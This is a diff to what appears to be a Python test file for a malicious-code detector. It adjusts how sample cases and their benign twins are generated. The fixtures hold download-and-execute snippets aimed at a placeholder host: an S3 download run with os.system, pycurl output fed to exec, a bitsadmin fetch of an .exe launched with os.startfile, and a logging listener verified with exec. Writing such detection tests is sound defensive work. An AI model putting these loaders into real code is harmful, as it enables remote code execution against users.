@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from textwrap import dedent, indent
 
 from pratique.verdict import Verdict
@@ -9,6 +10,7 @@ from tests.evasions.sample import MALICIOUS, SUSPICIOUS, Evasion, evasion
 
 _HOST = "stage.example.invalid"
 _URL = f"https://{_HOST}/a"
+_WORD = re.compile(r"\b(?:URL|HOST)\b(?!\s*=)(?<!\.URL)")
 
 
 def _gets(title: str, imports: str, expression: str, verdict: Verdict = MALICIOUS) -> Evasion:
@@ -20,8 +22,11 @@ def _gets(title: str, imports: str, expression: str, verdict: Verdict = MALICIOU
 
 def _text(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
     """Statements that execute what arrives; the twin does the same in a function and shows its length."""
-    code = dedent(code).replace("HOST", repr(_HOST)).replace("URL", repr(_URL))
-    good = "def honest():\n" + indent(code.replace("exec(", "len("), "    ")
+    code = _WORD.sub(lambda m: repr(_URL if m[0] == "URL" else _HOST), dedent(code).lstrip("\n"))
+    good = "def honest():\n" + indent(
+        code.replace("exec(", "len(").replace("os.startfile(", "print(").replace("os.system('/tmp", "print('/tmp"),
+        "    ",
+    )
     return evasion(title, code, good, verdict)
 
 
@@ -432,7 +437,6 @@ CASES = (
         import boto3, os
         boto3.client('s3').download_file('b', 'k', '/tmp/k')
         os.system('/tmp/k')
-        len(exec('1'))
         """,
     ),
     _gets("minio", "from minio import Minio", "Minio(HOST).get_object('b', 'k').data"),
@@ -736,7 +740,6 @@ CASES = (
         c.setopt(c.URL, URL)
         c.setopt(c.WRITEFUNCTION, exec)
         c.perform()
-        len(str(exec('1')))
         """,
     ),
     _text(
@@ -930,7 +933,6 @@ CASES = (
         import os
         os.system('bitsadmin /transfer a ' + URL + ' C:/a.exe')
         os.startfile('C:/a.exe')
-        len(str(exec('1')))
         """,
     ),
     _text(
@@ -965,7 +967,6 @@ CASES = (
         """
         import logging.config
         logging.config.listen(9030, verify=exec).start()
-        len(str(exec('1')))
         """,
         SUSPICIOUS,
     ),
